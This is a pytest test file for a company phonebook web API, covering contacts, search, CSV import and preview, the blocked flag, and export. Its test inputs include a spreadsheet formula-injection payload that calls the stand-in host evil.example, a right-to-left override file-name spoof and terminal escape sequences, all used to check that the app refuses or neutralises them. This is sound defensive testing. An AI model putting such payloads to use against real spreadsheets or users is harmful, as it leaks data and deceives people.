"""The company phonebook: contacts, search, csv import (seed 000: `name;number` lines) and export."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select
from starlette.testclient import TestClient

from tests.web.factories_phonebook import make_contact
from tests.web.helpers import login, make_account, make_tenant, make_token
from web.models import AuditEntry
from web.models.phonebook import Contact


@pytest.fixture
def tenant(db):
    return make_tenant(db)


@pytest.fixture
def admin(client, db, settings, tenant):
    make_account(db, settings, tenant.id, "boss@acme.test")
    login(client, "boss@acme.test")
    return client


def token_client(app, db, settings, tenant_id, email, role):
    account = make_account(db, settings, tenant_id, email, role=role)
    return TestClient(app, headers={"authorization": f"Bearer {make_token(db, account)}"})


def book(client) -> list[tuple[str, str]]:
    response = client.get("/api/phonebook")
    assert response.status_code == 200, response.text
    return [(c["name"], c["number"]) for c in response.json()]


def imp(client, text, mode="all_or_nothing", replace=False):
    return client.post("/api/phonebook/import", json={"csv": text, "mode": mode, "replace": replace})


def lines_of(errors) -> list[int]:
    return [error["line"] for error in errors]


# -- contacts ---------------------------------------------------------------------------------------------


def test_contact_crud_normalises_the_number(admin):
    created = admin.post("/api/phonebook", json={"name": "  Jan Jansen ", "number": "+31 20 123 4567", "company": "Acme"})
    assert created.status_code == 201, created.text
    contact = created.json()
    assert contact["name"] == "Jan Jansen" and contact["number"] == "+31201234567" and contact["note"] is None
    assert admin.get(f"/api/phonebook/{contact['id']}").json() == contact

    changed = admin.patch(f"/api/phonebook/{contact['id']}", json={"note": "ask for\nthe boss", "number": "+31201234567"})
    assert changed.status_code == 200, changed.text  # its own number is not a clash
    assert changed.json()["note"] == "ask for\nthe boss" and changed.json()["company"] == "Acme"
    assert admin.patch(f"/api/phonebook/{contact['id']}", json={"company": None}).json()["company"] is None

    assert admin.delete(f"/api/phonebook/{contact['id']}").status_code == 204
    assert admin.get(f"/api/phonebook/{contact['id']}").status_code == 404
    assert book(admin) == []


def test_a_number_is_in_the_book_once(admin):
    first = admin.post("/api/phonebook", json={"name": "Jan", "number": "0201234567"}).json()
    again = admin.post("/api/phonebook", json={"name": "Piet", "number": "020-123 4567"})
    assert again.status_code == 409
    assert again.json()["code"] == "contact_number_taken" and again.json()["errors"][0]["pointer"] == "/number"
    other = admin.post("/api/phonebook", json={"name": "Piet", "number": "0209999999"}).json()
    moved = admin.patch(f"/api/phonebook/{other['id']}", json={"number": first["number"]})
    assert moved.status_code == 409 and moved.json()["errors"][0]["pointer"] == "/number"


@pytest.mark.parametrize("body, pointer", [
    ({"name": "", "number": "0201234567"}, "/name"),
    ({"name": "   ", "number": "0201234567"}, "/name"),
    ({"name": "x" * 101, "number": "0201234567"}, "/name"),
    ({"name": "Bell\x07", "number": "0201234567"}, "/name"),
    ({"name": "evil\u202egnp.exe", "number": "0201234567"}, "/name"),
    ({"name": "Jan", "number": "abc"}, "/number"),
    ({"name": "Jan", "number": "+999"}, "/number"),
    ({"name": "Jan", "number": "020;1234567"}, "/number"),
    ({"name": "Jan", "number": "12"}, "/number"),
    ({"name": "Jan", "number": "0201234567", "company": "y" * 101}, "/company"),
    ({"name": "Jan", "number": "0201234567", "note": "z" * 501}, "/note"),
    ({"name": "Jan", "number": "0201234567", "note": "a\x00b"}, "/note"),
    ({"name": "Jan", "number": "0201234567", "extension": "201"}, "/extension"),
])
def test_bad_contacts_are_refused_with_the_field(admin, body, pointer):
    response = admin.post("/api/phonebook", json=body)
    assert response.status_code == 422, response.text
    assert pointer in [error["pointer"] for error in response.json()["errors"]]
    assert book(admin) == []


def test_search_matches_name_and_number_in_any_case(admin):
    for name, number in [("Jan Jansen", "0201234567"), ("Ömer Yılmaz", "+31612345678"), ("Piet", "0105550000")]:
        assert admin.post("/api/phonebook", json={"name": name, "number": number}).status_code == 201
    search = lambda q: [c["name"] for c in admin.get("/api/phonebook", params={"q": q}).json()]  # noqa: E731
    assert search("JANS") == ["Jan Jansen"]
    assert search("ömer") == ["Ömer Yılmaz"]
    assert search("020 123") == ["Jan Jansen"]
    assert search("+316") == ["Ömer Yılmaz"]
    assert search("nobody") == []
    assert search("%") == []  # no SQL wildcards
    assert len(search("")) == 3
    too_long = admin.get("/api/phonebook", params={"q": "x" * 101})
    assert too_long.status_code == 422 and too_long.json()["errors"][0]["pointer"] == "/q"


def test_there_is_one_list_route(app):
    lists = [r for r in app.routes if r.path == "/api/phonebook" and "GET" in getattr(r, "methods", ())]
    assert len(lists) == 1


def test_the_book_is_per_tenant(admin, app, db, settings):
    other = make_tenant(db, name="Other", sip_domain="other.pbx.test")
    foreign = make_contact(db, settings, other.id, name="Stranger", number="0207777777")
    assert admin.get(f"/api/phonebook/{foreign}").status_code == 404
    assert admin.patch(f"/api/phonebook/{foreign}", json={"name": "Mine"}).status_code == 404
    assert admin.delete(f"/api/phonebook/{foreign}").status_code == 404
    assert book(admin) == []
    assert "Stranger" not in admin.get("/api/phonebook/export").text
    # another company's number is no duplicate here
    assert admin.post("/api/phonebook", json={"name": "Mine", "number": "0207777777"}).status_code == 201
    assert imp(admin, "Also mine;0207777777\nNew;0208888888\n", mode="good_rows").json()["imported"] == 1
    with db() as session:
        assert session.get(Contact, foreign).name == "Stranger"


def test_a_user_reads_the_book_but_does_not_change_it(admin, app, db, settings, tenant):
    admin.post("/api/phonebook", json={"name": "Jan", "number": "0201234567"})
    user = token_client(app, db, settings, tenant.id, "user@acme.test", "user")
    assert [c["name"] for c in user.get("/api/phonebook").json()] == ["Jan"]
    assert user.get("/api/phonebook/export").status_code == 200
    assert user.post("/api/phonebook/import", json={"csv": "Piet;0209999999"}).status_code == 403
    assert user.post("/api/phonebook", json={"name": "Piet", "number": "0209999999"}).status_code == 403
    assert book(admin) == [("Jan", "0201234567")]


# -- import -----------------------------------------------------------------------------------------------


def test_seed_format_without_header(admin):
    response = imp(admin, "Jan Jansen;0201234567\nPiet Pietersen;+31 6 1234 5678\n")
    assert response.status_code == 200, response.text
    assert response.json() == {"imported": 2, "errors": [], "warnings": []}
    assert book(admin) == [("Jan Jansen", "0201234567"), ("Piet Pietersen", "+31612345678")]


@pytest.mark.parametrize("text", [
    "name;number\nJan;0201234567\nPiet;0209876543\n",
    "naam;nummer\r\nJan;0201234567\r\nPiet;0209876543\r\n",
    "Name,Number\nJan,0201234567\nPiet,0209876543",
    "Name, Number\nJan, 0201234567\nPiet, 0209876543",
    "name\tnumber\nJan\t0201234567\nPiet\t0209876543\n",
    "Naam;Tel.nr.\nJan;0201234567\nPiet;0209876543\n",  # an unknown title takes the missing column's place
    "number;name\n0201234567;Jan\n0209876543;Piet\n",  # columns found by their titles
])
def test_header_formats(admin, text):
    response = imp(admin, text)
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == 2
    assert book(admin) == [("Jan", "0201234567"), ("Piet", "0209876543")]


def test_header_with_company_and_note(admin):
    text = "Name;Phone;Company;Notes;E-mail\nJan;0201234567;Acme;after 5;jan@a.test\nPiet;0209876543;;;\n"
    assert imp(admin, text).json()["imported"] == 2
    jan, piet = admin.get("/api/phonebook").json()
    assert (jan["company"], jan["note"]) == ("Acme", "after 5")
    assert (piet["company"], piet["note"]) == (None, None)


def test_tab_without_header_and_comma_names(admin):
    assert imp(admin, "Jansen, Jan\t0201234567\nBakker, Piet\t0209876543\n").json()["imported"] == 2
    assert book(admin) == [("Bakker, Piet", "0209876543"), ("Jansen, Jan", "0201234567")]


def test_semicolons_win_over_commas_in_names(admin):
    text = "Bakker, Jan en Co, BV;0201234567\nPiet;0209876543\nKees;0105550000\n"
    assert imp(admin, text).json()["imported"] == 3
    assert ("Bakker, Jan en Co, BV", "0201234567") in book(admin)


def test_quoted_fields(admin):
    text = '"Jansen; Jan";0201234567\n"Bakker ""de"" Bouwer";"020 987 6543"\n'
    assert imp(admin, text).json()["imported"] == 2
    assert book(admin) == [('Bakker "de" Bouwer', "0209876543"), ("Jansen; Jan", "0201234567")]
    comma = 'Name,Number\n"Jansen, Jan",0201111111\n'
    assert imp(admin, comma).json()["imported"] == 1
    assert ("Jansen, Jan", "0201111111") in book(admin)


@pytest.mark.parametrize("text", ["\ufeffname;number\nJan;0201234567\n", "\ufeffJan;0201234567\n"])
def test_a_bom_is_ignored(admin, text):
    assert imp(admin, text).json()["imported"] == 1
    assert book(admin) == [("Jan", "0201234567")]


BAD_FILE = (
    "name;number\n"            # 1 header
    "Jan;0201234567\n"         # 2 good
    ";0201111111\n"            # 3 no name
    "Piet;not a number\n"      # 4 bad number
    "\n"                       # 5 blank: skipped, still counted
    + "K" * 101 + ";0202222222\n"  # 6 name too long
    "Kees;0203333333;extra\n"  # 7 too many columns
    "Marie;0204444444\n"       # 8 good
    "Anna\n"                   # 9 too few columns
    "Bert;\n"                  # 10 no number
)
BAD_LINES = [3, 4, 6, 7, 9, 10]


def test_all_or_nothing_reports_every_bad_line_and_imports_nothing(admin):
    admin.post("/api/phonebook", json={"name": "Old", "number": "0209999999"})
    response = imp(admin, BAD_FILE)
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["code"] == "csv_invalid" and problem["imported"] == 0
    assert lines_of(problem["errors"]) == BAD_LINES
    assert all(error["pointer"] == "/csv" and error["message"] for error in problem["errors"])
    codes = {error["line"]: error["code"] for error in problem["errors"]}
    assert codes == {3: "missing_name", 4: "bad_number", 6: "too_long", 7: "column_count", 9: "column_count",
                     10: "missing_number"}
    assert book(admin) == [("Old", "0209999999")]


def test_good_rows_imports_the_good_and_reports_the_bad(admin):
    response = imp(admin, BAD_FILE, mode="good_rows")
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == 2
    assert lines_of(response.json()["errors"]) == BAD_LINES
    assert book(admin) == [("Jan", "0201234567"), ("Marie", "0204444444")]


def test_line_numbers_count_lines_inside_quoted_fields(admin):
    text = 'Jan;0201234567\n"Two\nlines";0201111111\nPiet;bad\n'
    response = imp(admin, text, mode="good_rows")
    assert lines_of(response.json()["errors"]) == [2, 4]  # the record starting on line 2 spans 2 and 3
    assert book(admin) == [("Jan", "0201234567")]


def test_hostile_characters_in_a_row_are_refused(admin):
    response = imp(admin, "Jan;0201234567\nEvil\x1b[31m;0201111111\n")
    assert response.status_code == 422 and lines_of(response.json()["errors"]) == [2]


def test_an_unterminated_quote_is_reported_where_it_starts(admin):
    response = imp(admin, 'Jan;0201234567\nPiet;0209876543\n"Kees;0201111111\nMarie;0202222222\n', mode="good_rows")
    assert response.status_code == 200
    assert [(e["line"], e["code"]) for e in response.json()["errors"]] == [(3, "unreadable")]
    assert len(book(admin)) == 2


def test_duplicates_are_skipped_with_warnings(admin):
    admin.post("/api/phonebook", json={"name": "Old", "number": "+31201234567"})
    text = "name;number\nJan;+31 20 123 4567\nPiet;0209876543\nPiet again;020 987 6543\nKees;0105550000\n"
    response = imp(admin, text)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["imported"] == 2 and body["errors"] == []
    assert [(w["line"], w["code"]) for w in body["warnings"]] == [(2, "duplicate"), (4, "duplicate")]
    assert "line 3" in body["warnings"][1]["message"]
    assert book(admin) == [("Kees", "0105550000"), ("Old", "+31201234567"), ("Piet", "0209876543")]


def test_replace_swaps_the_whole_book(admin):
    imp(admin, "Old;0201234567\nGone;0209999999\n")
    response = imp(admin, "New;0208888888\nOld renamed;0201234567\n", replace=True)
    assert response.status_code == 200, response.text
    assert response.json() == {"imported": 2, "errors": [], "warnings": []}  # no duplicate of the old book
    assert book(admin) == [("New", "0208888888"), ("Old renamed", "0201234567")]


def test_a_failed_replace_keeps_the_old_book(admin):
    imp(admin, "Old;0201234567\n")
    assert imp(admin, "New;0208888888\nBad;xyz\n", replace=True).status_code == 422
    assert imp(admin, "Bad;xyz\n", mode="good_rows", replace=True).status_code == 422  # would empty the book
    assert imp(admin, "", replace=True).status_code == 422
    assert book(admin) == [("Old", "0201234567")]


def test_empty_and_oversized_files_are_refused(admin):
    for text in ("", "\n\n", "name;number\n"):
        response = imp(admin, text)
        assert response.status_code == 422 and response.json()["code"] == "csv_empty", text
    many = "".join(f"C{i};020{i:07d}\n" for i in range(10_001))
    too_many = imp(admin, many)
    assert too_many.status_code == 422 and too_many.json()["code"] == "csv_too_many_rows"
    assert too_many.json()["errors"][0]["line"] == 10_001
    huge = imp(admin, "Jan;0201234567\n" * 150_000)  # 2.25 MB
    assert huge.status_code == 413
    assert book(admin) == []


@pytest.mark.parametrize("body", [{"csv": 5}, {"csv": "a;0201234567", "mode": "some"}, {"csv": "x", "replace": "maybe"}, {}])
def test_bad_import_requests_are_refused(admin, body):
    response = admin.post("/api/phonebook/import", json=body)
    assert response.status_code == 422, response.text


def test_each_imported_contact_is_audited(admin, db):
    imp(admin, "Jan;0201234567\nPiet;0209876543\n")
    with db() as session:
        actions = session.exec(select(AuditEntry.action).where(AuditEntry.object_type == "contact")).all()
    assert sorted(actions) == ["contact.create", "contact.create"]


# -- export -----------------------------------------------------------------------------------------------

TRICKY = [
    "Jansen; Jan",
    'Bakker "de" Bouwer',
    "Ömer Yılmaz",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "'=already quoted",
    "+plus at the start",
    "-5 dagen",
    "@SUM(A1)",
    "'plain quote",
    "Komma, Kees",
]


def test_export_is_csv_with_a_header(admin):
    admin.post("/api/phonebook", json={"name": "Jan", "number": "+31201234567"})
    response = admin.get("/api/phonebook/export")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "charset=utf-8" in response.headers["content-type"]
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.text == "name;number;blocked\r\nJan;+31201234567;no\r\n"  # a "+31" number stays as it is


def test_export_guards_against_formula_injection(admin):
    for index, name in enumerate(TRICKY):
        assert admin.post("/api/phonebook", json={"name": name, "number": f"+312012345{index:02d}"}).status_code == 201
    rows = list(csv.reader(io.StringIO(admin.get("/api/phonebook/export").text), delimiter=";"))
    assert rows[0] == ["name", "number", "blocked"]
    cells = {number: name for name, number, _ in rows[1:]}
    assert cells["+31201234503"] == "'" + TRICKY[3]
    for name, number, _ in rows[1:]:
        assert name[0] not in "=+-@", name  # nothing a spreadsheet would run
        assert number.startswith("+31") and number[1:].isdigit()


def test_export_then_import_gives_the_same_book(admin):
    for index, name in enumerate(TRICKY):
        admin.post("/api/phonebook", json={"name": name, "number": f"020{index:07d}"})
    admin.post("/api/phonebook", json={"name": "International", "number": "+32 470 12 34 56"})
    before = book(admin)
    exported = admin.get("/api/phonebook/export").text
    response = imp(admin, exported, replace=True)
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == len(before) and response.json()["warnings"] == []
    assert book(admin) == before


# -- the blocked mark (#16 item 2: a blocked contact's calls to the company are turned away) ----------------


def blocked_book(client) -> dict[str, bool]:
    return {contact["number"]: contact["blocked"] for contact in client.get("/api/phonebook").json()}


def test_import_reads_the_blocked_column_in_english_and_dutch(admin):
    text = ("name;number;blocked\nA;0201000001;yes\nB;0201000002;No\nC;0201000003;TRUE\nD;0201000004;false\n"
            "E;0201000005;1\nF;0201000006;0\nG;0201000007;ja\nH;0201000008;Nee\nI;0201000009;\nJ;0201000010\n")
    response = imp(admin, text)
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == 10
    assert blocked_book(admin) == {"0201000001": True, "0201000002": False, "0201000003": True, "0201000004": False,
                                   "0201000005": True, "0201000006": False, "0201000007": True, "0201000008": False,
                                   "0201000009": False, "0201000010": False}
    dutch = imp(admin, "Naam;Nummer;Geblokkeerd\nK;0201000011;ja\n")
    assert dutch.status_code == 200, dutch.text
    assert blocked_book(admin)["0201000011"] is True


def test_a_blocked_cell_that_is_no_yes_or_no_is_a_bad_row(admin):
    text = "name;number;blocked\nA;0201000001;yes\nB;0201000002;maybe\nC;0201000003;2\n"
    response = imp(admin, text)
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["code"] == "csv_invalid" and problem["imported"] == 0
    assert [(error["line"], error["pointer"], error["code"]) for error in problem["errors"]] == [
        (3, "/csv", "bad_blocked"), (4, "/csv", "bad_blocked")]
    assert "maybe" in problem["errors"][0]["message"]
    assert book(admin) == []
    preview = admin.post("/api/phonebook/import/preview", json={"csv": text, "mode": "good_rows"}).json()
    assert ([row["blocked"] for row in preview["rows"]], lines_of(preview["errors"])) == ([True], [3, 4])
    kept = imp(admin, text, mode="good_rows")
    assert kept.status_code == 200 and blocked_book(admin) == {"0201000001": True}


def test_export_carries_the_blocked_mark_and_imports_again(admin):
    admin.post("/api/phonebook", json={"name": "Pest", "number": "+31612000667", "blocked": True})
    admin.post("/api/phonebook", json={"name": "Friend", "number": "+31612000668"})
    exported = admin.get("/api/phonebook/export").text
    assert exported == "name;number;blocked\r\nFriend;+31612000668;no\r\nPest;+31612000667;yes\r\n"
    before = blocked_book(admin)
    assert imp(admin, exported, replace=True).status_code == 200
    assert blocked_book(admin) == before == {"+31612000667": True, "+31612000668": False}


# -- preview ----------------------------------------------------------------------------------------------


def test_preview_says_what_an_import_would_do_and_saves_nothing(admin, db, settings, tenant):
    make_contact(db, settings, tenant.id, name="Old", number="0201111111")
    text = "name;number;company\nJan;0202222222;Acme\nBad;no number\nOld again;0201111111\n"
    answer = admin.post("/api/phonebook/import/preview", json={"csv": text, "mode": "good_rows"})
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["rows"] == [{"line": 2, "name": "Jan", "number": "0202222222", "company": "Acme", "note": None,
                             "blocked": False}]
    assert [(e["line"], e["code"]) for e in body["errors"]] == [(3, "bad_number")]
    assert [(w["line"], w["code"]) for w in body["warnings"]] == [(4, "duplicate")]
    assert body["refused"] is None
    assert book(admin) == [("Old", "0201111111")]  # nothing saved

    strict = admin.post("/api/phonebook/import/preview", json={"csv": text}).json()
    assert strict["refused"] == "csv_invalid"  # all or nothing, as the import would answer
    assert imp(admin, text).json()["code"] == "csv_invalid"
    replacing = admin.post("/api/phonebook/import/preview", json={"csv": "name;number\nOld;0201111111\n", "replace": True}).json()
    assert replacing["warnings"] == [] and len(replacing["rows"]) == 1  # the old book goes, so no duplicate
    assert admin.post("/api/phonebook/import/preview", json={"csv": "name;number\n"}).json()["refused"] == "csv_empty"


def test_preview_is_for_admins(app, db, settings, tenant):
    user = token_client(app, db, settings, tenant.id, "user@acme.test", "user")
    assert user.post("/api/phonebook/import/preview", json={"csv": "Piet;0209999999"}).status_code == 403
